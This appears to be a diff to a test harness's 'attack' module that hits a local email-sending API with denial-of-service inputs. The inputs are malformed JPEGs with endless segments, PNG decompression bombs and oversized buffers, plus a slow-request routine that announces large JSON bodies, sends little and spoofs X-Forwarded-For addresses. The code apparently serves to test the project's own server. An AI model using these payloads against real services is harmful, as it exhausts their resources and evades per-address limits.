@@ -10,10 +10,11 @@ export const hostileCode = 'HOSTILE'
 export async function attack(getPort: () => number, isOver: () => boolean): Promise<number> {
   const photos = [
     makeSlowJpeg(7000, 39),
-    makeSlowJpeg(7040, 39, { isWhole: true }),
-    makePngBomb(7000, { isDeep: true }),
-    makePngBomb(7000),
-    makePngBomb(30_000)
+    makeSlowJpeg(4096, 19),
+    makePngBomb(30_000),
+    // A hundred thousand segments, and none that ends.
+    Buffer.from(`ffd8${'ffdb0002'.repeat(100_000)}`, 'hex'),
+    Buffer.alloc(400_000, 0xff)
   ].map((photo) => toDataUrl(photo))
   let count = 0
 
@@ -40,15 +41,15 @@ export async function attack(getPort: () => number, isOver: () => boolean): Prom
     }
   }
 
-  /** A form of 25 MB is announced, and less than one kilobyte comes. */
+  /** Photos of 2 MB are announced, and hardly come. */
   async function dawdle(address: string): Promise<void> {
-    const part = '--b\r\nContent-Disposition: form-data; name="photos"; filename="x.jpg"\r\n\r\n'
+    const part = '{"template_params":{"photo1":"'
     const head =
-      `POST /api/v1.0/email/send-form HTTP/1.1\r\nHost: localhost\r\nAccept: text/html\r\nX-Forwarded-For: ${address}\r\n` +
-      `Content-Type: multipart/form-data; boundary=b\r\nContent-Length: 25000000\r\n\r\n`
+      `POST /api/v1.0/email/send HTTP/1.1\r\nHost: localhost\r\nX-Forwarded-For: ${address}\r\n` +
+      `Content-Type: application/json\r\nContent-Length: 1900000\r\n\r\n`
     while (!isOver()) {
       const line = connect(getPort(), '127.0.0.1')
-      line.on('error', () => {}).write(head + part + 'x'.repeat(700))
+      line.on('error', () => {}).write(head + part + 'x'.repeat(60_000))
       count += 1
       for (let waited = 0; waited < 20 && !isOver() && !line.destroyed; waited += 1) await sleep(1000)
       line.destroy()
